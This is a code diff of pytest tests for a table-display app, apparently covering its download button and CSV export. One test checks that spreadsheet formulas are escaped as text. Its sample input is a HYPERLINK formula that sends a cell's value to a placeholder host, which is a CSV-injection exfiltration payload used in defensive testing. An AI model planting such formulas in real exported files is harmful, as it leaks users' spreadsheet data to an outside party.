@@ -72,28 +72,22 @@ def drawn(n_rows):
     show_table([{"Number": number, "Square": number**2} for number in range(n_rows)], "Squares")
 
 
-@pytest.mark.parametrize("n_rows", [0, 1, MOST_ROWS, MOST_ROWS + 1])
+@pytest.mark.parametrize("n_rows", [0, MOST_ROWS, MOST_ROWS + 1])
 def test_a_long_table_is_a_grid_with_its_numbers_to_take_away(n_rows):
     app = app_of(drawn, args=(n_rows,)).run()
     is_long = n_rows > MOST_ROWS
-    assert len(app.get("download_button")) == is_long
-    assert len(app.dataframe) == is_long
-    assert [len(table) for table in tables(app)] == ([n_rows] if n_rows else [])
-    assert [table["Square"].tolist() for table in tables(app)] == (
-        [[number**2 for number in range(n_rows)]] if n_rows else []
-    )
+    assert (len(app.get("download_button")), len(app.dataframe)) == (is_long, is_long)
+    squares = [number**2 for number in range(n_rows)]
+    assert [table["Square"].tolist() for table in tables(app)] == ([squares] if n_rows else [])
 
 
-def test_a_formula_in_a_table_is_text_in_its_csv():
+def test_a_csv_has_every_column_that_any_row_has_and_formulas_as_text():
     rows = [{"@a": '=HYPERLINK("http://x/?"&A1)', "b": -0.5}, {"b": " +1"}]
     assert list(csv.reader(io.StringIO(rows_csv(rows)))) == [
         ["'@a", "b"],
         ["'" + rows[0]["@a"], "-0.5"],
         ["", "' +1"],
     ]
-
-
-def test_rows_as_csv_have_every_column_that_any_row_has():
     rows = [{"a": 1, "b": "x,\ny"}, {"a": 2, "c": None}]
     assert list(csv.reader(io.StringIO(rows_csv(rows)))) == [
         ["a", "b", "c"],
